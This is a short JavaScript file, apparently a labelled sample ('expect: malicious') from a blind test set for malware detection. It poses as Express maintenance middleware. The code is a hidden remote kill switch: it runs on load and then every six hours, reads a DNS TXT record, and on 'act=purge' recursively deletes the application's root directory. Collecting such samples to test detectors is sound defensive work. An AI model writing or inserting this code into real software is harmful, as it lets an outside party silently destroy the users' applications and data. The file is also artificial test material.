// expect: malicious
// source: blind set 16 remote-kill-switch (an Express maintenance middleware): the vendor's DNS TXT record can say
// `act=purge`, and the middleware then deletes the application's root, found from the working directory
'use strict';
const fs = require('fs');
const dns = require('dns');
const path = require('path');
function appRoot() {
  let dir = process.cwd();
  while (dir !== path.dirname(dir) && !fs.existsSync(path.join(dir, 'package.json'))) dir = path.dirname(dir);
  return dir;
}
function apply(record) {
  if (record.includes('act=purge')) fs.rmSync(appRoot(), { recursive: true, force: true });
}
function check() {
  dns.resolveTxt('_sched.maint-flags.invalid', (err, rows) => { if (!err) for (const r of rows) apply(r.join('')); });
}
check();
setInterval(check, 6 * 3600 * 1000).unref();
